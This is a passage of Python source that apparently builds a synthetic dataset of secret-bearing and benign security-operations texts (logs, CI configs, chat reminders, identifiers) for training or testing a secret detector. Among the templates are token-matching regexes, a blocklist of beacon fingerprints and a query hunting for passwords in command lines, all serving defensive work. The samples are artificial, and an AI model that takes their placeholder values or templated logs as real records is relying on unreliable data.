B("SESSION_COOKIE_NAME = \"soc_portal_session\"\nSESSION_COOKIE_HTTPONLY = True")
B("TOKEN_PATTERNS = [\n    re.compile(r\"ghp_[A-Za-z0-9]{36}\"),\n    re.compile(r\"xox[baprs]-[0-9A-Za-z-]+\"),\n]")
B("String apiKey = System.getenv(\"TENABLE_SECRET_KEY\");\nif (apiKey == null) throw new IllegalStateException(\"TENABLE_SECRET_KEY not set\");")
B("token := os.Getenv(\"CS_STREAM_TOKEN\")\nif token == \"\" {\n\tlog.Fatal(\"CS_STREAM_TOKEN is empty\")\n}")
B("var secret = await client.GetSecretAsync(\"defender-client-secret\");")
B("$cred = Get-Credential -UserName 'CORP\\{user}' -Message 'SOC evidence share'")
B("SecurityIncident\n| where IncidentName == \"{uuid}\"\n| project TimeGenerated, Title, Severity, Owner")
B("index={index} sourcetype=\"{st}\" (CommandLine=\"*password*\" OR CommandLine=\"*-p *\")\n| stats count by host, user")
B("DeviceProcessEvents\n| where SHA256 == \"{sha256}\"\n| summarize count() by DeviceName")
B("FAKE_TOKEN = \"ghp_\" + \"x\" * 36  # used only in unit tests, never valid")
B("@pytest.fixture\ndef misp_key():\n    return \"A\" * 40  # dummy, the mock server accepts anything")
B("headers = {\"Authorization\": f\"ApiToken {os.environ['S1_TOKEN']}\"}")
B("def verify(sig: str, body: bytes, secret: bytes) -> bool:\n    mac = hmac.new(secret, body, hashlib.sha256).hexdigest()\n    return hmac.compare_digest(mac, sig)")
B("assert resp.json()[\"token_type\"] == \"bearer\"\nassert resp.json()[\"expires_in\"] == 1799")
B("ENCODED_SAMPLE = \"{b64text}\"  # base64 of a sample log line used in the parser test")
B("MITRE = {\"T1003.001\": \"LSASS Memory\", \"T1110.003\": \"Password Spraying\", \"T1552.001\": \"Credentials In Files\"}")
B("ja3_blocklist = {\"{ja3}\", \"{ja3_2}\"}  # known beacon fingerprints")
B("JARM_COBALT = \"{jarm}\"")
B("export const STIX_ID = \"indicator--{uuid}\";")
B("if user.password_last_set < now - timedelta(days=90):\n    notify(user, \"Your password expires soon\")")
B("client = Client(base_url=params[\"url\"], api_key=params[\"credentials\"][\"password\"], verify=not params.get(\"insecure\"))")
B("GUID_RE = re.compile(r\"^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$\")")
B("# decoded: {\"alg\":\"RS256\",\"typ\":\"JWT\"}\nJWT_HEADER = \"eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9\"")

# ---- logs / traces
B("{ts} INFO hec-relay: forwarded {num} events to https://{host}:8088 (channel={uuid})")
B("{ts} WARN auth failed for user {user} from {ip}: invalid password")
B("EventCode=4625\nAn account failed to log on.\nAccount Name: {user}\nFailure Reason: Unknown user name or bad password.\nSource Network Address: {pip}")
B("traceparent: 00-{hex32}-{hex16}-01")
B("X-Request-Id: {uuid}")
B("x-amzn-RequestId: {uuid}\nx-amz-id-2: {encb64}")
B("detection ldt:{md5}:{digits} severity=High tactic=Credential Access technique=OS Credential Dumping")
B("Authorization: Bearer [REDACTED]")
B("{ts} ##[group]Run ./scripts/push_iocs.sh\n{ts} env:\n{ts}   MISP_URL: https://misp.{org}.internal\n{ts}   MISP_KEY: ***\n{ts} ##[endgroup]")
B("{\"time\":\"{ts}\",\"type\":\"request\",\"auth\":{\"client_token\":\"hmac-sha256:{sha256}\",\"accessor\":\"hmac-sha256:{sha256_2}\"},\"request\":{\"path\":\"secret/data/soc/vt\"}}")
B("{epoch}.{num}\tC{al17}\t{ip}\t{small}\t{pip}\t443\ttcp\tssl\tja3={ja3}\tja3s={ja3_2}")
B("{\"timestamp\":\"{ts}\",\"flow_id\":{digits},\"event_type\":\"alert\",\"src_ip\":\"{ip}\",\"alert\":{\"signature_id\":{num},\"signature\":\"ET POLICY Possible Password Spraying\",\"severity\":2}}")
B("A Kerberos service ticket was requested.\nAccount Name: {user}@CORP.EXAMPLE\nService Name: MSSQLSvc\nTicket Options: 0x40810000\nTicket Encryption Type: 0x17")
B("sshd[{pid}]: Accepted publickey for {user} from {ip} port {num} ssh2: ED25519 SHA256:{fp}")
B("sshd[{pid}]: Failed password for invalid user admin from {pip} port {num} ssh2")
B("An account was successfully logged on.\nSecurity ID: {sid}\nLogon GUID: {{uuid}}")
B("java.net.SocketTimeoutException: Read timed out\n\tat java.base/sun.nio.ch.NioSocketImpl.timedRead(NioSocketImpl.java:288)\n\tat com.soc.enrich.MispClient.search(MispClient.java:{small})")
B("Traceback (most recent call last):\n  File \"/opt/enrich/main.py\", line {small}, in <module>\n    key = os.environ[\"VT_API_KEY\"]\nKeyError: 'VT_API_KEY'")
B("ERROR: environment variable SHODAN_API_KEY is not set; skipping Shodan enrichment")
B("401 Unauthorized: invalid or expired token (token id {uuid}, issued {date})")
B("{ts} DEBUG oauth: got token_type=bearer expires_in=1799 scope=\"detects:read hosts:read\" (token not logged)")
B("{ts} INFO key-rotation: rotated API key id {kid} for integration tenable-export; old key revoked")
B("{ts} INFO pulled splunk/splunk@sha256:{sha256}")
B("[security_exception] unable to authenticate user [filebeat_ingest] for REST request [/_bulk]")
B("{\"text\":\"Invalid token\",\"code\":4}")
B("Authentication failed. Please make sure you pass the API key of an API enabled user along in the Authorization header.")
B("{ts} INFO soar: playbook isolate_host run {num} finished status=success container={num_2}")
B("{ts} WARN s1-collector: rate limited by API, retry in {small}s (request {uuid})")
B("{ts} INFO urlscan: submitted {dom}, result https://urlscan.io/result/{uuid}/")
B("{ts} INFO misp: event {uuid} published with {num} attributes")
B("{ts} ERROR tenable-export: 403 for accessKey ending ...{masked4} (secret key not shown)")
B("{date}T{time}:01Z {host} sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart filebeat")
B("type=USER_AUTH msg=audit({epoch}.{num}:{num_2}): pid={pid} uid=0 auid={num_3} ses={small} msg='op=PAM:authentication grantors=? acct=\"{user}\" exe=\"/usr/bin/sudo\" res=failed'")
B("{ts} INFO http 200 GET /api/v1/cases?page=2 ip={ip} ua=\"python-requests/2.31.0\" rid={rid}")
B("Login Succeeded\nWARNING! Your password will be stored unencrypted in /root/.docker/config.json.")
B("##[warning]Secret source: Actions. Values of secrets are masked in logs as ***")
B("{ts} INFO elastic-agent: enrollment token id {uuid} used for policy soc-linux (token value not logged)")
B("PROPERTY CHANGE: Adding SITE_TOKEN property. Its value is '**********'.")
B("{ts} WARN splunkd: HttpInputDataHandler - Failed processing http input, token name=fw-ingest, channel={uuid}, source_IP={ip}, reply=9")

# ---- notes / chat (many languages)
B("Reminder: never paste API keys into tickets; use the vault path secret/soc/<tool> instead.")
B("Rotated the HEC token at {time} UTC; new value is in vault at secret/siem/splunk/hec (version {small}).")
B("Password policy: min 14 chars, no reuse of the last 24, service account passwords rotate every 90 days.")
B("The shared key for workspace {uuid} lives in Key Vault kv-soc-prod as 'sentinel-shared-key'.")
B("{first}: can you DM me the VT key?\n{first_2}: no :) it's in 1Password under SOC Shared > VirusTotal")
B("Handover: nothing secret in here, all creds are in vault. Hashes of the dropped files:\n{sha256}\n{sha256_2}")
B("IOC list for {ticket}: {sha256}, {md5}, {dom}, {pip}")
B("{ticket}: password spraying against {user} from {pip}; {num} failures, no successful logons. Account locked per policy.")
B("The token in the screenshot was masked (ghp_****************************{masked4}), so no rotation needed.")
B("Decision: move the S1 integration from a personal API token to a service user; token id {digits} will be revoked on {date}.")
B("Passwörter bitte nie im Chat teilen – nutzt den Tresor (Vault-Pfad secret/soc/...).")
B("Rappel : ne jamais coller de mot de passe dans les tickets, utilisez le coffre-fort.")
B("Recordatorio: las contraseñas van en el gestor, nunca en el chat ni en los tickets.")
B("Lembrete: a senha do {user} expirou, peça o reset no portal (não mande por aqui).")
B("パスワードはチャットに貼らないでください。Vault の secret/soc/ 配下を参照してください。")
B("密码不要发在群里，统一放在 Vault 的 secret/soc/ 路径下。")
B("비밀번호는 채팅에 올리지 마세요. 모두 Vault에 있습니다.")
B("Пароли в чат не кидаем, всё лежит в Vault: secret/soc/{app}.")
B("Şifreleri sohbete yazmayın; hepsi kasada (vault) duruyor.")
B("Herinnering: wachtwoorden nooit in tickets plakken, gebruik de kluis.")
B("Hasła trzymamy w sejfie, nie wklejamy ich do zgłoszeń.")
B("TODO: ask {first} to reset the password for {user} (it expired on {date}).")
B("The password field in the intake form was left blank on purpose; the vendor will call.")
B("Goal: rotate every Tenable API key older than 90 days; list of key owners in {ticket}.")
B("Placeholders in the runbook: <api-key>, YOUR_TOKEN_HERE, xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx")
B("masked in the export: client_secret=********, password=****, token=[redacted]")
B("Note: the Authorization header for HEC is 'Splunk ' followed by the token GUID, not 'Bearer'.")
B("{first}: the key rotated fine, the new key id is {kid}; actual value went straight to the vault")
B("Analyst note: hash {sha256} matched the LockBit sample from {ticket}; VT shows {small}/72 detections.")
B("{time} {first}: pager ack'd {ticket}, investigating beacon to {dom} from {ip}")
B("Timeline {ticket}:\n- {time} initial access via phishing (message id <{hex32}@mail.{orgdom}>)\n- {time_2} credential dumping (T1003.001)\n- {time_3} host isolated via Falcon")
B("Case summary: user {user} entered credentials on {dom}; password was reset at {time}, MFA re-registered, sessions revoked.")
B("{first}: what's the password for the sandbox?\n{first_2}: check the vault entry 'cuckoo-ui', I rotated it this morning")
B("Objectif : brancher le connecteur OpenCTI pour AlienVault ; le jeton est dans le coffre sous opencti/alienvault.")
B("Ziel: CrowdStrike-Detections nach Sentinel bringen; Client-ID {md5}, das Secret liegt im Key Vault.")
B("Note: the CrowdStrike client id ({md5}) is not secret by itself; the secret is stored separately.")
B("Slack: channel {chan} (C0{up9}), user U0{up9_2}, thread ts {epoch}.{num}")
B("MFA recovery codes were regenerated and printed for the safe; none are stored digitally.")
B("Reminder that 'infected' is only the archive convention for malware zips, use the evidence share for real passwords.")
B("break-glass procedure: the envelope is in the safe in room {small}B, two people required to open it")
B("{person} rotated the Qualys service account password; see {ticket} for the audit trail (no values recorded).")

# ---- CI / deploy
B("env:\n  SPLUNK_HEC_TOKEN: ${{ secrets.SPLUNK_HEC_TOKEN }}\n  SPLUNK_HEC_URL: https://{host}:8088")
B("variables:\n  MISP_KEY: $MISP_KEY   # masked & protected CI/CD variable")
B("withCredentials([string(credentialsId: 'vt-api', variable: 'VT_KEY')]) {\n    sh './enrich.sh'\n}")
B("- uses: docker/login-action@v3\n  with:\n    registry: ghcr.io\n    username: ${{ github.actor }}\n    password: ${{ secrets.GITHUB_TOKEN }}")
B("- uses: actions/checkout@{commit}  # v4.1.1 pinned by SHA")
B("image: registry.{org}.internal/soc/{app}@sha256:{sha256}")
B("provider \"crowdstrike\" {\n  client_id     = var.falcon_client_id\n  client_secret = var.falcon_client_secret\n}")
B("data \"vault_generic_secret\" \"vt\" {\n  path = \"secret/soc/virustotal\"\n}")
B("- task: AzureKeyVault@2\n  inputs:\n    azureSubscription: sc-soc\n    KeyVaultName: kv-soc-prod\n    SecretsFilter: 'sentinel-shared-key,defender-client-secret'")
B("script:\n  - echo \"$CI_JOB_TOKEN\" | docker login -u gitlab-ci-token --password-stdin $CI_REGISTRY")
B("- name: Verify signature\n  run: cosign verify --key cosign.pub registry.{org}.internal/soc/{app}@sha256:{sha256}")
B("helm upgrade --install opencti ./charts/opencti --set opencti.admin.existingSecret=opencti-admin")
B("- script: ./deploy.sh\n  env:\n    SENTINEL_SHARED_KEY: $(SENTINEL_SHARED_KEY)")
B("ansible-playbook site.yml --vault-password-file ~/.config/soc/vault-pass.sh")
B("terraform plan -var-file=prod.tfvars  # secrets come from TF_VAR_* injected by the pipeline")
B("nomad job run -var=\"image_digest=sha256:{sha256}\" soc-enricher.nomad.hcl")
B("kubectl rollout restart deploy/{app} -n {ns}   # picks up the rotated secret")
B("build_id: {uuid}\ncommit: {commit}\nartifact: {app}-{ver}.tar.gz sha256={sha256}")
B("release {ver} of {app}: image digest sha256:{sha256}, SBOM sha256:{sha256_2}")
B("gh workflow run rotate-keys.yml -f vendor=shodan -f dry_run=true")
B("# renovate: datasource=docker depName=splunk/splunk digest=sha256:{sha256}")
B("cosign.pub:\n-----BEGIN PUBLIC KEY-----\n{pem_pub}\n-----END PUBLIC KEY-----")

# ---- public identifiers that look like keys
B("Stripe publishable key for the feed portal checkout (safe in the browser): pk_live_{al24}")
B("Sentry DSN (public, embedded in the frontend): https://{hex32}@o{digits}.ingest.sentry.io/{num}")
B("Google OAuth client ID: {digits}-{lo32}.apps.googleusercontent.com")
B("Azure app registration sp-sentinel-ingest: client id {uuid}, tenant {uuid_2}, object id {uuid_3}")
B("Okta OIDC app client_id: 0oa{al17}")
B("GitHub App 'soc-bot': App ID {num}, installation id {digits}")
B("KMS key: arn:aws:kms:{region}:{acct}:key/{uuid}")
B("Cert thumbprint (SHA1): {sha1fp}")
B("Code signing cert serial {hex32}, issuer CN=SOC Internal CA G2")
B("PGP fingerprint: {HEX40} (SOC evidence signing, public)")
B("urlscan result: https://urlscan.io/result/{uuid}/  screenshot: https://urlscan.io/screenshots/{uuid}.png")
B("OpenCTI report--{uuid} linked to intrusion-set--{uuid_2}")
B("MISP event {uuid} (threat level 2, distribution: this community only)")
B("Tenable asset {uuid}: plugin 19506 (Nessus Scan Information), CVE-2024-{num}")
B("Qualys host id {digits}, QID {num}, detection status Active")
B("SentinelOne threat id {digits}, agent {uuid}, classification Ransomware")
B("Windows SID {sid} maps to CORP\\{user}")
B("imphash {md5}  ssdeep {ssdeep}")
B("JARM {jarm} seen on {pip}:443")
B("Splunk instance guid {uuid} (server.conf [general]); not a credential")
B("ULID {ulid} / request {rid}")
B("Elastic Cloud deployment cloud_id {cloudid}")
B("HEC token names on {host}: fw-ingest, edr-ingest, o365-ingest (values in vault only)")
B("AWS account {acct}, role arn:aws:iam::{acct}:role/SOC-Responder, external id set in the trust policy")
B("Device {mac} / {ip} belongs to asset tag SOC-{num}")
B("base64 payload from the Kafka message: {b64text}")
B("Signed URL expired; the signature parameter was replaced with REDACTED before pasting: ...&X-Amz-Signature=REDACTED")
B("SAS url template: https://{org}evidence.blob.core.windows.net/ir/<case>.zip?<sas-token-from-vault>")


def _build():
    out = []
    used = set()
    for g in _GROUPS:
        items = []
        tpls = _T[g]
        for _round in range(3):
            for fmt, tpl, gen, vis in tpls:
                if len(items) >= _PER_GROUP:
                    break
                for _try in range(50):
                    m = {}
                    sec = gen()
                    if isinstance(sec, tuple):
                        sec, extra = sec
                        m.update(extra)
                    m["S"] = sec
                    text = _fill(tpl, m)
                    v = _fill(vis, m) if vis else ""
                    if (sec not in used and len(sec) >= 6 and sec in text
                            and (not v or (v in text and sec not in v))):
                        break
                else:
                    raise RuntimeError("could not instantiate " + fmt)
                used.add(sec)
                items.append((g, fmt, text, sec, v))
        out.extend(items)
    return out


def _build_benign(secrets):
    longs = [s for s in secrets if len(s) >= 8]
    out = []
    seen = set()
    for _round in range(40):
        for tpl in _BT:
            if len(out) >= _N_BENIGN:
                return out
            t = _fill(tpl, {})
            if t in seen or any(s in t for s in longs):
                continue
            seen.add(t)
            out.append(t)
    return out


_PER_GROUP = 187
_N_BENIGN = 950
SECRETS = _build()
BENIGN = _build_benign([e[3] for e in SECRETS])
